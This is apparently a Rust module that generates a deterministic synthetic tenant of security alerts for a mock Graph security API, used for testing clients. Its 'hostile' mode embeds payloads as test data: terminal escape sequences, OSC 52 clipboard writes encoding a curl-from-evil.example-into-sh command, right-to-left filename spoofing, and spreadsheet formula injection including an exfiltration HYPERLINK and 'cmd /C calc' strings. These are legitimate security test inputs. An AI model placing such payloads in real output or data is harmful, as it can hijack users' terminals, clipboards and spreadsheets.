//! The generated tenant: deterministic per seed, relative to a clock.
//!
//! Alerts come in incidents: each incident has one user, one device and one set of outside
//! infrastructure, and its alerts are created within a few hours of each other, so grouping,
//! evidence and timelines look like a real queue. Times spread over the 30 days before `now`.
//! Everything is drawn from a splitmix64 stream seeded by `seed`; the same seed and `now`
//! give byte-identical alerts.

use super::json::{Obj, members};
use super::store::{AlertRecord, Comment};
use super::vocab::{self, Country, Detections, Entities, FileDef, SourceDef, Template};
use crate::graph::enums::{
    AlertClassification, AlertDetermination, AlertSeverity, AlertStatus, DetectionSource,
    ServiceSource,
};
use std::collections::HashSet;
use std::sync::Arc;
use time::{Duration, OffsetDateTime};

/// The splitmix64 finalizer: a good 64-bit mixer, used for hashing and by [`Rng`].
pub fn mix64(mut z: u64) -> u64 {
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// A tiny deterministic PRNG (splitmix64); the crate has no `rand` and needs none.
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Rng(seed)
    }

    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        mix64(self.0)
    }

    /// Uniform in `0..n`; 0 when `n` is 0.
    pub fn below(&mut self, n: u64) -> u64 {
        if n == 0 {
            return 0;
        }
        // Lemire's multiply-shift: unbiased enough for test data, no division.
        ((u128::from(self.next_u64()) * u128::from(n)) >> 64) as u64
    }

    pub fn index(&mut self, len: usize) -> usize {
        self.below(len as u64) as usize
    }

    /// True with probability `percent`/100.
    pub fn percent(&mut self, percent: u64) -> bool {
        self.below(100) < percent
    }

    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> Option<&'a T> {
        if items.is_empty() {
            None
        } else {
            items.get(self.index(items.len()))
        }
    }
}

/// A stable hash of a label, for ids that must be the same wherever the entity appears.
fn hash_str(seed: u64, label: &str) -> u64 {
    let mut h = mix64(seed ^ 0x5eed);
    for b in label.bytes() {
        h = mix64(h ^ u64::from(b));
    }
    h
}

fn hex(mut h: u64, digits: usize) -> String {
    const HEX: &[u8; 16] = b"0123456789abcdef";
    let mut s = String::with_capacity(digits);
    'fill: loop {
        h = mix64(h.wrapping_add(0x9e37_79b9_7f4a_7c15));
        for shift in (0..16).rev() {
            if s.len() == digits {
                break 'fill;
            }
            s.push(char::from(HEX[((h >> (shift * 4)) & 0xf) as usize]));
        }
    }
    s
}

/// Stable `(sha1, sha256)`-shaped hex for a file name, so a file has the same hashes in
/// every alert that mentions it.
fn file_hashes(name: &str) -> (String, String) {
    let h = hash_str(0, name);
    (hex(h, 40), hex(h ^ 0xff, 64))
}

fn guid(h: u64) -> String {
    let x = hex(h, 32);
    format!(
        "{}-{}-4{}-a{}-{}",
        &x[0..8],
        &x[8..12],
        &x[13..16],
        &x[17..20],
        &x[20..32]
    )
}

/// What to generate.
#[derive(Debug, Clone)]
pub struct GenConfig {
    pub alerts: usize,
    pub seed: u64,
    /// Times are spread over the 30 days before this instant.
    pub now: OffsetDateTime,
    /// Adds alerts carrying terminal escape sequences and other hostile text.
    pub hostile: bool,
}

/// The tenant id for a seed (a fictitious GUID).
pub fn tenant_id(seed: u64) -> String {
    guid(hash_str(seed, "tenant"))
}

/// Positions (in generation order) that get the `tricky` templates, so every default tenant
/// of a reasonable size carries them whatever the seed.
const TRICKY_AT: [usize; 3] = [3, 11, 29];

const WINDOW_DAYS: i64 = 30;
/// .NET ticks at the Unix epoch; Graph's MDE-style alert ids embed creation ticks.
const DOTNET_EPOCH_TICKS: i128 = 621_355_968_000_000_000;

/// Generates the tenant's alerts (unsorted; the store orders them).
pub fn generate(cfg: &GenConfig) -> Result<Vec<AlertRecord>, String> {
    let now = truncate_ticks(cfg.now);
    let mut g = Generator::new(
        cfg.seed,
        now,
        mix64(cfg.seed),
        1000 + (mix64(cfg.seed) % 9000),
        cfg.alerts + 16,
    )?;
    let det = g.det;
    let total_weight = g.total_weight();
    while g.out.len() < cfg.alerts {
        let ctx = g.incident_context();
        // Incident sizes: mostly single alerts, a tail of multi-stage ones.
        let size = match g.rng.below(100) {
            0..=49 => 1,
            50..=74 => 2,
            75..=87 => 3,
            _ => 4 + g.rng.below(4) as usize,
        }
        .min(cfg.alerts - g.out.len());
        // Kept a second inside the window: alert times below subtract up to a second.
        let start = now - Duration::seconds(g.rng.below((WINDOW_DAYS * 86_400 - 1) as u64) as i64);
        for _ in 0..size {
            let position = g.out.len();
            let template = match TRICKY_AT.iter().position(|&p| p == position) {
                Some(i) if i < det.tricky.len() => Pick::Tricky(i),
                _ => Pick::Regular(g.pick_template(total_weight)),
            };
            let created = (start + Duration::seconds(g.rng.below(4 * 3600) as i64)).min(now);
            let created = truncate_ticks(
                created - Duration::nanoseconds(g.rng.below(10_000_000) as i64 * 100),
            );
            g.alert(&ctx, template, created, None);
        }
    }
    if cfg.hostile {
        g.hostile_alerts();
    }
    Ok(g.out)
}

fn truncate_ticks(t: OffsetDateTime) -> OffsetDateTime {
    t.replace_nanosecond(t.nanosecond() / 100 * 100)
        .unwrap_or(t)
}

/// A template made ready: typed enums and the fragment shared by its alerts.
struct Prepared {
    source: usize,
    service_source: ServiceSource,
    detection_source: DetectionSource,
    severity: AlertSeverity,
    shared: Arc<str>,
}

fn prepare_one(src: &SourceDef, t: &Template, seed: u64, source: usize) -> Prepared {
    let detector = guid(hash_str(seed, &format!("detector/{}", t.title)));
    let shared = members(|o| {
        o.str("title", &t.title)
            .str("description", &t.description)
            .str("recommendedActions", &src.recommended_actions)
            .str("category", &t.category)
            .strs("categories", std::slice::from_ref(&t.category))
            .strs("mitreTechniques", &t.techniques)
            .str("productName", &src.product_name)
            .str("detectorId", &detector)
            .opt_str("actorDisplayName", t.actor.as_deref())
            .opt_str("threatDisplayName", t.threat.as_deref())
            .opt_str("threatFamilyName", t.threat_family.as_deref());
        if t.policy {
            o.str(
                "alertPolicyId",
                &guid(hash_str(seed, &format!("policy/{}", t.title))),
            );
        }
    });
    Prepared {
        source,
        service_source: ServiceSource::parse(&src.service_source),
        detection_source: DetectionSource::parse(&t.detection_source),
        severity: AlertSeverity::parse(&t.severity),
        shared: Arc::from(shared),
    }
}

/// Prepared templates: `[regular per source...]`, then one per tricky template.
struct PreparedSet {
    regular: Vec<Vec<Prepared>>,
    tricky: Vec<Prepared>,
}

fn prepare(det: &Detections, seed: u64) -> PreparedSet {
    let regular = det
        .sources
        .iter()
        .enumerate()
        .map(|(i, s)| {
            s.templates
                .iter()
                .map(|t| prepare_one(s, t, seed, i))
                .collect()
        })
        .collect();
    let tricky = det
        .tricky
        .iter()
        .filter_map(|t| {
            let i = det
                .sources
                .iter()
                .position(|s| Some(s.service_source.as_str()) == t.service_source.as_deref())?;
            Some(prepare_one(&det.sources[i], t, seed, i))
        })
        .collect();
    PreparedSet { regular, tricky }
}

#[derive(Clone, Copy)]
enum Pick {
    Regular((usize, usize)),
    Tricky(usize),
}

#[derive(Debug)]
struct User {
    display: String,
    account: String,
    upn: String,
    sid: String,
    aad_id: String,
}

#[derive(Debug)]
struct Host {
    name: String,
    fqdn: String,
    mde_id: String,
    aad_id: String,
    os: (String, String, String),
    ip: String,
    first_seen: OffsetDateTime,
    rbac: (i64, String),
}

/// What the alerts of one incident share: one user, one device, one set of outside
/// infrastructure. Shared (`Arc`) by the incident's alerts, whose evidence it renders.
#[derive(Debug)]
pub struct Ctx {
    incident_id: String,
    tenant: Arc<str>,
    org_domain: &'static str,
    netbios: &'static str,
    user: User,
    host: Host,
    ext_ip: String,
    country: &'static Country,
    domain: &'static str,
    url: String,
    file: &'static FileDef,
    parent: &'static FileDef,
    command_line: &'static str,
    subject: String,
    sender: &'static (String, String),
    cloud_app: &'static (String, i64),
    oauth_app: &'static (String, String),
    azure: &'static (String, String),
    registry: &'static (String, String, String, String),
}

struct Generator {
    det: &'static Detections,
    ent: &'static Entities,
    rng: Rng,
    seed: u64,
    now: OffsetDateTime,
    tenant: Arc<str>,
    prepared: PreparedSet,
    /// Hashes of the ids issued so far; a (vanishingly rare) hash collision only re-rolls.
    ids: HashSet<u64>,
    next_incident: u64,
    out: Vec<AlertRecord>,
}

/// Overrides for hostile alerts: their own shared fragment, command line and ids.
struct Override {
    shared: Arc<str>,
    command_line: Option<String>,
    file_name: Option<String>,
    provider_alert_id: Option<String>,
}

impl Generator {
    /// A generator for tenant `seed` drawing from `stream`, its next incident numbered
    /// `first_incident`.
    fn new(
        seed: u64,
        now: OffsetDateTime,
        stream: u64,
        first_incident: u64,
        capacity: usize,
    ) -> Result<Generator, String> {
        let (det, ent) = vocab::load()?;
        Ok(Generator {
            det,
            ent,
            rng: Rng::new(stream),
            seed,
            now,
            tenant: Arc::from(tenant_id(seed)),
            prepared: prepare(det, seed),
            ids: HashSet::with_capacity(capacity),
            next_incident: first_incident,
            out: Vec::with_capacity(capacity),
        })
    }

    fn total_weight(&self) -> u64 {
        self.det.sources.iter().map(|s| u64::from(s.weight)).sum()
    }

    fn pick_template(&mut self, total_weight: u64) -> (usize, usize) {
        let mut roll = self.rng.below(total_weight.max(1));
        let mut source = 0;
        for (i, s) in self.det.sources.iter().enumerate() {
            let w = u64::from(s.weight);
            if roll < w {
                source = i;
                break;
            }
            roll -= w;
        }
        let n = self.det.sources[source].templates.len();
        (source, self.rng.index(n))
    }

    fn user(&mut self) -> User {
        let e = self.ent;
        let n = (e.first_names.len() * e.last_names.len()).max(1);
        let u = self.rng.index(n);
        let first = e
            .first_names
            .get(u % e.first_names.len().max(1))
            .map_or("user", |s| s);
        let last = e
            .last_names
            .get(u / e.first_names.len().max(1))
            .map_or("", |s| s);
        let account = format!("{}.{}", first.to_lowercase(), last.to_lowercase());
        let h = hash_str(self.seed, &account);
        User {
            display: format!("{first} {last}"),
            upn: format!("{account}@{}", e.org_domain),
            sid: format!(
                "S-1-5-21-{}-{}-{}-{}",
                1_000_000_000 + self.seed % 999_999_999,
                2_000_000_000 + (self.seed >> 8) % 99_999_999,
                3_000_000_000u64 + (self.seed >> 16) % 99_999_999,
                1100 + u
            ),
            aad_id: guid(h),
            account,
        }
    }

    fn host(&mut self) -> Host {
        let e = self.ent;
        let name = if self.rng.percent(12) {
            self.rng
                .pick(&e.servers)
                .cloned()
                .unwrap_or_else(|| "srv-01".into())
        } else {
            let prefix = self.rng.pick(&e.host_prefixes).map_or("ws", |s| s);
            format!("{prefix}-{:04}", 1 + self.rng.below(400))
        };
        let h = hash_str(self.seed, &name);
        let os = e
            .os_platforms
            .get((h % e.os_platforms.len().max(1) as u64) as usize)
            .cloned()
            .unwrap_or_else(|| ("Windows11".into(), "22631".into(), "23H2".into()));
        Host {
            fqdn: format!("{name}.{}", e.org_domain),
            mde_id: hex(h, 40),
            aad_id: guid(h ^ 1),
            ip: format!(
                "10.{}.{}.{}",
                10 + (h >> 8) % 40,
                (h >> 16) % 256,
                2 + (h >> 24) % 250
            ),
            first_seen: self.now - Duration::days(60 + (h >> 32) as i64 % 600),
            rbac: (
                70 + (h % 8) as i64,
                format!(
                    "{} devices",
                    e.departments
                        .get((h % e.departments.len().max(1) as u64) as usize)
                        .map_or("All", |s| s)
                ),
            ),
            os,
            name,
        }
    }

    fn incident_context(&mut self) -> Arc<Ctx> {
        let e = self.ent;
        let incident_id = self.next_incident.to_string();
        self.next_incident += 1 + self.rng.below(3);
        let user = self.user();
        let host = self.host();
        let nets = ["203.0.113", "198.51.100", "192.0.2"];
        let ext_ip = format!(
            "{}.{}",
            nets[self.rng.index(nets.len())],
            1 + self.rng.below(254)
        );
        let domain = self
            .rng
            .pick(&e.malicious_domains)
            .map_or("bad.example", |s| s);
        let path = self
            .rng
            .pick(&e.url_paths)
            .map_or("/", |s| s)
            .replace("{n}", &(10_000 + self.rng.below(90_000)).to_string());
        let subject = self
            .rng
            .pick(&e.mail_subjects)
            .map_or("Hello", |s| s)
            .replace("{n}", &(1000 + self.rng.below(9000)).to_string());
        let fallback_file = &e.files[0];
        Arc::new(Ctx {
            incident_id,
            tenant: self.tenant.clone(),
            org_domain: &e.org_domain,
            netbios: &e.netbios_domain,
            user,
            host,
            ext_ip,
            country: &e.countries[self.rng.index(e.countries.len())],
            domain,
            url: format!("https://{domain}{path}"),
            file: self.rng.pick(&e.files).unwrap_or(fallback_file),
            parent: self.rng.pick(&e.parent_processes).unwrap_or(fallback_file),
            command_line: self.rng.pick(&e.command_lines).map_or("cmd.exe", |s| s),
            subject,
            sender: &e.senders[self.rng.index(e.senders.len())],
            cloud_app: &e.cloud_apps[self.rng.index(e.cloud_apps.len())],
            oauth_app: &e.oauth_apps[self.rng.index(e.oauth_apps.len())],
            azure: &e.azure_resources[self.rng.index(e.azure_resources.len())],
            registry: &e.registry_keys[self.rng.index(e.registry_keys.len())],
        })
    }

    fn new_id(&mut self, prefix: &str, created: OffsetDateTime) -> Box<str> {
        let ticks = created.unix_timestamp_nanos() / 100 + DOTNET_EPOCH_TICKS;
        loop {
            let suffix = self.rng.next_u64() as u32 as i32;
            let id = format!("{prefix}{ticks}_{suffix}");
            if self.ids.insert(hash_str(0, &id)) {
                return id.into();
            }
        }
    }

    fn alert(
        &mut self,
        ctx: &Arc<Ctx>,
        pick: Pick,
        created: OffsetDateTime,
        over: Option<Override>,
    ) {
        let det = self.det;
        let (prep, template) = match pick {
            Pick::Regular((s, t)) => (&self.prepared.regular[s][t], &det.sources[s].templates[t]),
            Pick::Tricky(i) => (&self.prepared.tricky[i], &det.tricky[i]),
        };
        let source = &det.sources[prep.source];
        let service_source = prep.service_source.clone();
        let detection_source = prep.detection_source.clone();
        let mut severity = prep.severity.clone();
        let shared = match &over {
            Some(o) => o.shared.clone(),
            None => prep.shared.clone(),
        };
        let rng = &mut self.rng;
        // Occasionally a detection fires one level off its usual severity.
        if rng.percent(10) {
            severity = match severity {
                AlertSeverity::High => AlertSeverity::Medium,
                AlertSeverity::Medium => AlertSeverity::High,
                AlertSeverity::Low => AlertSeverity::Informational,
                other => other,
            };
        }

        let age = self.now - created;
        let age_days = age.whole_days().clamp(0, WINDOW_DAYS) as u64;
        let resolved_pct = 8 + age_days * 30 / WINDOW_DAYS as u64;
        let roll = rng.below(100);
        let status = if roll < resolved_pct {
            AlertStatus::Resolved
        } else if roll < resolved_pct + 30 {
            AlertStatus::InProgress
        } else {
            AlertStatus::New
        };
        let max_update = age.whole_seconds().clamp(0, 3 * 86_400) as u64;
        let last_update =
            truncate_ticks(created + Duration::seconds(rng.below(max_update + 1) as i64));
        let (mut classification, mut determination) = (
            Some(AlertClassification::Unknown),
            Some(AlertDetermination::Unknown),
        );
        if rng.percent(5) {
            (classification, determination) = (None, None);
        }
        let classify = |rng: &mut Rng| {
            let c = match rng.below(100) {
                0..=44 => AlertClassification::TruePositive,
                45..=74 => AlertClassification::FalsePositive,
                _ => AlertClassification::InformationalExpectedActivity,
            };
            let valid = AlertDetermination::valid_for(&c);
            let d = valid[rng.index(valid.len())].clone();
            (Some(c), Some(d))
        };
        let assigned_pct = match status {
            AlertStatus::New => 8,
            AlertStatus::InProgress => 90,
            _ => 85,
        };
        match status {
            AlertStatus::Resolved => (classification, determination) = classify(rng),
            AlertStatus::InProgress if rng.percent(20) => {
                (classification, determination) = classify(rng)
            }
            _ => {}
        }
        let assigned_to: Option<Box<str>> = if rng.percent(assigned_pct) {
            self.ent
                .analysts
                .get(rng.index(self.ent.analysts.len()))
                .map(|s| s.as_str().into())
        } else {
            None
        };
        let resolved = (status == AlertStatus::Resolved).then_some(last_update);
        let mut comments = Vec::new();
        if status != AlertStatus::New && rng.percent(35) {
            let span = (last_update - created).whole_seconds().max(1) as u64;
            let mut at = created;
            for _ in 0..1 + rng.below(3) {
                at = truncate_ticks(at + Duration::seconds(rng.below(span / 3 + 1) as i64))
                    .min(last_update);
                let text = self.ent.comments[rng.index(self.ent.comments.len())]
                    .replace("{n}", &(100 + rng.below(900)).to_string());
                let author = assigned_to
                    .as_deref()
                    .map(str::to_owned)
                    .or_else(|| self.ent.analysts.first().cloned())
                    .unwrap_or_default();
                comments.push(Comment {
                    text: text.into(),
                    author: author.into(),
                    created: at,
                });
            }
        }
        let lead = Duration::seconds(60 + rng.below(3 * 3600) as i64);
        let first_activity = truncate_ticks(created - lead);
        let last_activity = truncate_ticks(
            first_activity + Duration::seconds(rng.below(lead.whole_seconds() as u64 + 1) as i64),
        );
        let investigation = rng
            .pick(&source.investigation_states)
            .map_or("unsupportedAlertType", |s| s.as_str())
            .to_owned();
        let system_tags: Vec<String> = if rng.percent(10) {
            rng.pick(&self.ent.system_tags).cloned().unwrap_or_default()
        } else {
            Vec::new()
        };

        let id = self.new_id(&source.id_prefix, created);
        // MDE-style sources use the alert id as the provider id; others have their own.
        let provider_alert_id =
            if let Some(p) = over.as_ref().and_then(|o| o.provider_alert_id.clone()) {
                p
            } else if source.id_prefix == "da" {
                id.to_string()
            } else {
                guid(self.rng.next_u64())
            };
        let recipe = Recipe {
            ctx: ctx.clone(),
            kinds: &template.evidence,
            command_line: match over.as_ref().and_then(|o| o.command_line.as_deref()) {
                Some(c) => CommandLine::Fixed(c.into()),
                None => CommandLine::Template(
                    template.command_line.as_deref().unwrap_or(ctx.command_line),
                ),
            },
            file_name: over
                .as_ref()
                .and_then(|o| o.file_name.as_deref())
                .map(Into::into),
            subject: template.subject.as_deref(),
            malicious: matches!(severity, AlertSeverity::High | AlertSeverity::Medium),
            seed: self.rng.next_u64(),
        };
        let own = members(|o| {
            o.str("providerAlertId", &provider_alert_id)
                .str("investigationState", &investigation)
                .time("firstActivityDateTime", first_activity)
                .time("lastActivityDateTime", last_activity)
                .strs("systemTags", &system_tags);
        });
        self.out.push(AlertRecord {
            id,
            created,
            last_update,
            resolved,
            status,
            severity,
            classification,
            determination,
            service_source,
            detection_source,
            assigned_to,
            comments,
            shared,
            own: own.into(),
            recipe: Some(recipe),
        });
    }

    /// Alerts whose text attacks the terminal or a spreadsheet, for security tests. Only
    /// with `hostile`; the default tenant has no control characters outside line breaks.
    fn hostile_alerts(&mut self) {
        const ESC: &str = "\u{1b}";
        let long_title: String = "Overlong title that never ends "
            .chars()
            .cycle()
            .take(5000)
            .collect();
        let cases: Vec<(String, String, Option<String>, Option<String>)> = vec![
            (
                format!("{ESC}[2J{ESC}[HSYSTEM COMPROMISED {ESC}[31mpay now{ESC}[0m"),
                format!("Clears the screen and colours text.{ESC}[?1049h"),
                Some(format!("cmd.exe /c echo {ESC}[1;31mred{ESC}[0m")),
                None,
            ),
            (
                format!("Clipboard write {ESC}]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3x8c2g=\u{7}via OSC 52"),
                format!("Sets the window title {ESC}]0;graphsec pwned\u{7} and sends DCS {ESC}Pq#0;2;0;0;0{ESC}\\"),
                Some(format!("powershell -c \"Write-Host '{ESC}]52;c;ZWNobyBwd25lZA=={ESC}\\'\"")),
                None,
            ),
            (
                "Attachment invoice_\u{202e}fdp.exe\u{202c} opened".to_owned(),
                "The file name uses a right-to-left override to disguise its extension.\u{2066}\u{2069}\u{200b}".to_owned(),
                None,
                Some("invoice_\u{202e}fdp.exe".to_owned()),
            ),
            (
                long_title,
                format!("A title of 5,000 characters; the description too:{}", hostile_value("", 5)),
                None,
                None,
            ),
            (
                "Benign looking title\rMALICIOUS overwrite\u{0}\u{9b}31mC1 CSI\u{7f}".to_owned(),
                "Carriage return, NUL, C1 CSI and DEL in one title.\u{8}\u{8}\u{8}".to_owned(),
                Some("a\u{0}b\u{1b}c\u{9b}d".to_owned()),
                None,
            ),
            (
                "=HYPERLINK(\"http://exfil.example/?q=\"&A1,\"Click\")".to_owned(),
                "+cmd|' /C calc'!A0".to_owned(),
                Some("@SUM(1+1)*cmd|' /C calc'!A0".to_owned()),
                Some("-2+3+cmd|' /C calc'!A0.csv".to_owned()),
            ),
        ];
        // Hostile alerts borrow the first endpoint detection's evidence kinds; every text
        // member is their own.
        if self
            .det
            .sources
            .first()
            .is_none_or(|s| s.templates.is_empty())
        {
            return;
        }
        for (i, (title, description, command_line, file_name)) in cases.into_iter().enumerate() {
            // Every other displayed field carries hostile text too; rotating the payloads
            // over the six alerts gives each field each kind of attack once.
            let evil = |field: &str, k: usize| hostile_value(field, i + k);
            let ctx = match Arc::try_unwrap(self.incident_context()) {
                Ok(mut c) => {
                    c.incident_id = evil("incident", 1);
                    c.tenant = Arc::from(evil("tenant", 2));
                    c.user.display = evil("user display", 3);
                    c.user.account = evil("account", 4);
                    c.user.upn = evil("upn@contoso.example", 5);
                    c.host.name = evil("host", 0);
                    c.host.fqdn = evil("host.contoso.example", 1);
                    c.url = evil("https://evil.example/", 2);
                    c.subject = evil("subject", 3);
                    Arc::new(c)
                }
                // Never shared this early; if it were, its alert keeps plain evidence.
                Err(shared) => shared,
            };
            let techniques = [evil("T1059", 4), "T1566.001".to_owned()];
            let category = evil("Execution", 5);
            let shared = members(|o| {
                o.str("title", &title)
                    .str("description", &description)
                    .str("recommendedActions", &evil("recommendedActions", 0))
                    .str("category", &category)
                    .strs("categories", std::slice::from_ref(&category))
                    .strs("mitreTechniques", &techniques)
                    .str("productName", &evil("productName", 1))
                    .str("detectorId", &evil("detectorId", 2))
                    .str("actorDisplayName", &evil("actor", 3))
                    .str("threatDisplayName", &title)
                    .str("threatFamilyName", &evil("family", 4));
            });
            // Recent, so they sit on the first page.
            let created = truncate_ticks(self.now - Duration::minutes(5 + i as i64));
            self.alert(
                &ctx,
                Pick::Regular((0, 0)),
                created,
                Some(Override {
                    shared: Arc::from(shared),
                    command_line,
                    file_name: file_name.or_else(|| Some(evil("file.exe", 5))),
                    provider_alert_id: Some(evil("provider", 0)),
                }),
            );
            if let Some(record) = self.out.last_mut() {
                // Unique (the index keeps the alert's position) and hostile in every way.
                record.id = format!("hostile-{i}-{}", evil("id", 1)).into();
                record.assigned_to = Some(evil("assignee@contoso.example", 2).into());
                record.comments = vec![Comment {
                    text: evil("comment", 3).into(),
                    author: evil("author", 4).into(),
                    created,
                }];
            }
        }
    }
}

/// Salt of the stream later alerts are drawn from, so they never repeat the tenant's.
const FRESH_STREAM: u64 = 0x6672_6573_6820;

/// Alerts raised after the tenant was generated (the changing tenant, [`super::changes`]):
/// the same detections, vocabulary and evidence as generated ones, from their own seeded
/// stream, as a detector reports them: status new, nobody assigned, no comments yet.
pub struct Fresh {
    g: Generator,
    total_weight: u64,
}

impl Fresh {
    /// New alerts for tenant `seed`; the first new incident is numbered `first_incident`
    /// (above every existing one).
    pub fn new(seed: u64, first_incident: u64) -> Result<Fresh, String> {
        let g = Generator::new(
            seed,
            OffsetDateTime::UNIX_EPOCH,
            mix64(seed ^ FRESH_STREAM),
            first_incident,
            16,
        )?;
        let total_weight = g.total_weight();
        Ok(Fresh { g, total_weight })
    }

    /// An alert created at `created` in an incident of its own (a new user, device and
    /// outside infrastructure).
    pub fn alert_in_new_incident(&mut self, created: OffsetDateTime) -> Option<AlertRecord> {
        self.g.now = created;
        let ctx = self.g.incident_context();
        self.raise(&ctx, created)
    }

    /// An alert created at `created` in the incident `sibling` belongs to: the same user,
    /// device and infrastructure show up in its evidence. `None` for an alert with no
    /// incident.
    pub fn alert_in_incident_of(
        &mut self,
        sibling: &AlertRecord,
        created: OffsetDateTime,
    ) -> Option<AlertRecord> {
        let ctx = sibling.recipe.as_ref()?.ctx.clone();
        self.g.now = created;
        self.raise(&ctx, created)
    }

    fn raise(&mut self, ctx: &Arc<Ctx>, created: OffsetDateTime) -> Option<AlertRecord> {
        let created = truncate_ticks(created);
        let pick = Pick::Regular(self.g.pick_template(self.total_weight));
        self.g.alert(ctx, pick, created, None);
        let mut a = self.g.out.pop()?;
        a.status = AlertStatus::New;
        a.resolved = None;
        a.last_update = created;
        a.assigned_to = None;
        a.comments.clear();
        a.classification = Some(AlertClassification::Unknown);
        a.determination = Some(AlertDetermination::Unknown);
        Some(a)
    }
}

/// A hostile value naming `field`: the `n % 6`th of terminal attacks (CSI screen control,
/// OSC 52 clipboard write and title change, bidi overrides and isolates, zero-width
/// characters, NUL/C1/DEL/CR/TAB/BS, 5,000 characters).
pub fn hostile_value(field: &str, n: usize) -> String {
    const ESC: char = '\u{1b}';
    match n % 6 {
        0 => format!("{ESC}[2J{ESC}[H{field}{ESC}[31m red{ESC}[0m"),
        1 => format!(
            "{field} {ESC}]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlfHNo\u{7}{ESC}]0;pwned{ESC}\\"
        ),
        2 => format!("{field} \u{202e}exe.txt\u{202c} \u{2067}isolate\u{2069}\u{61c}"),
        3 => format!("{field}\u{200b}zero\u{200d}width\u{feff}\u{2060}"),
        4 => format!("{field}\0nul\u{9b}31m C1\u{7f}\r\nCRLF\tTAB\u{8}\u{85}"),
        _ => format!("{field} {}", "long ".repeat(1000)),
    }
}

/// Expands `{url}`, `{domain}`, `{host}`, `{account}` and `{b64:N}` in a template.
fn expand(text: &str, ctx: &Ctx, rng: &mut Rng) -> String {
    let mut s = text
        .replace("{url}", &ctx.url)
        .replace("{domain}", ctx.domain)
        .replace("{host}", &ctx.host.name)
        .replace("{account}", &ctx.user.account);
    while let Some(start) = s.find("{b64:") {
        let Some(len) = s[start..].find('}') else {
            break;
        };
        let n: usize = s[start + 5..start + len].parse().unwrap_or(64).min(100_000);
        const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let blob: String = (0..n)
            .map(|_| char::from(ALPHABET[rng.index(ALPHABET.len())]))
            .collect();
        s.replace_range(start..start + len + 1, &blob);
    }
    s
}

/// How to write an alert's command line: a vocabulary template expanded at render time,
/// or a fixed text (hostile alerts).
#[derive(Debug, Clone)]
enum CommandLine {
    Template(&'static str),
    Fixed(Box<str>),
}

/// The members of an alert that derive from its incident (incident id, tenant, portal links)
/// and its evidence, kept as the recipe that writes them rather than as text: evidence is
/// most of an alert's bytes, and rewriting it from the shared incident and a per-alert seed
/// is cheap, so 100,000 alerts stay small in memory. The same recipe always writes the
/// same JSON.
#[derive(Debug, Clone)]
pub struct Recipe {
    ctx: Arc<Ctx>,
    kinds: &'static [String],
    command_line: CommandLine,
    file_name: Option<Box<str>>,
    subject: Option<&'static str>,
    malicious: bool,
    seed: u64,
}

impl Recipe {
    /// The incident the alert belongs to.
    pub fn incident_id(&self) -> &str {
        &self.ctx.incident_id
    }

    /// The tenant the alert (and its incident) belongs to.
    pub fn tenant(&self) -> &Arc<str> {
        &self.ctx.tenant
    }

    /// Writes the members for alert `id`, created at `created`.
    pub fn write(&self, o: &mut Obj<'_>, id: &str, created: OffsetDateTime) {
        let mut rng = Rng::new(self.seed);
        let ctx = &*self.ctx;
        let tenant = &*ctx.tenant;
        let mut link = String::with_capacity(128);
        link.push_str("https://security.microsoft.com/alerts/");
        link.push_str(id);
        link.push_str("?tid=");
        link.push_str(tenant);
        o.str("incidentId", &ctx.incident_id)
            .str("tenantId", tenant)
            .str("alertWebUrl", &link);
        link.clear();
        link.push_str("https://security.microsoft.com/incidents/");
        link.push_str(&ctx.incident_id);
        link.push_str("?tid=");
        link.push_str(tenant);
        o.str("incidentWebUrl", &link);
        // Only process evidence shows a command line; skip expanding it otherwise.
        let command_line = match &self.command_line {
            _ if !self.kinds.iter().any(|k| k == "process") => String::new(),
            CommandLine::Template(t) => expand(t, ctx, &mut rng),
            CommandLine::Fixed(s) => s.to_string(),
        };
        let ev = EvidenceWriter {
            ctx,
            created,
            command_line: &command_line,
            file_name: self.file_name.as_deref().unwrap_or(&ctx.file.name),
            subject: self.subject.unwrap_or(&ctx.subject),
            malicious: self.malicious,
        };
        o.key_array("evidence", |arr| {
            for kind in self.kinds {
                ev.write(arr, kind, &mut rng);
            }
        });
    }
}

/// Writes evidence objects with the documented property names and JSON types.
struct EvidenceWriter<'a> {
    ctx: &'a Ctx,
    created: OffsetDateTime,
    command_line: &'a str,
    file_name: &'a str,
    subject: &'a str,
    malicious: bool,
}

impl EvidenceWriter<'_> {
    /// Common `alertEvidence` members. Only members declared before `unknownFutureValue`
    /// are used for remediation status, so no Prefer-gating is needed inside evidence.
    fn base(&self, o: &mut Obj<'_>, kind: &str, roles: &[&str], detailed: &[&str], rng: &mut Rng) {
        let verdict = if self.malicious && matches!(kind, "file" | "process" | "url" | "ip") {
            if rng.percent(60) {
                "malicious"
            } else {
                "suspicious"
            }
        } else if rng.percent(15) {
            "suspicious"
        } else {
            "unknown"
        };
        let remediation = match rng.below(10) {
            0 => "remediated",
            1 => "blocked",
            2 => "prevented",
            _ => "none",
        };
        o.str(
            "@odata.type",
            &format!("#microsoft.graph.security.{kind}Evidence"),
        )
        .time("createdDateTime", self.created)
        .str("verdict", verdict)
        .str("remediationStatus", remediation)
        .null("remediationStatusDetails")
        .strs("roles", roles)
        .strs("detailedRoles", detailed)
        .strs("tags", &[] as &[&str]);
    }

    fn user_account(&self, o: &mut Obj<'_>) {
        let u = &self.ctx.user;
        o.obj("userAccount", |o| {
            o.str("accountName", &u.account)
                .str("domainName", self.ctx.netbios)
                .str("userSid", &u.sid)
                .str("azureAdUserId", &u.aad_id)
                .str("userPrincipalName", &u.upn)
                .str("displayName", &u.display);
        });
    }

    fn file_details(&self, o: &mut Obj<'_>, key: &str, f: &FileDef, name: &str) {
        let (sha1, sha256) = file_hashes(name);
        let path = f.path.replace("{account}", &self.ctx.user.account);
        o.obj(key, |o| {
            o.str("sha1", &sha1)
                .str("sha256", &sha256)
                .str("fileName", name)
                .str("filePath", &path)
                .int("fileSize", f.size)
                .opt_str("filePublisher", f.publisher.as_deref())
                .null("signer")
                .null("issuer");
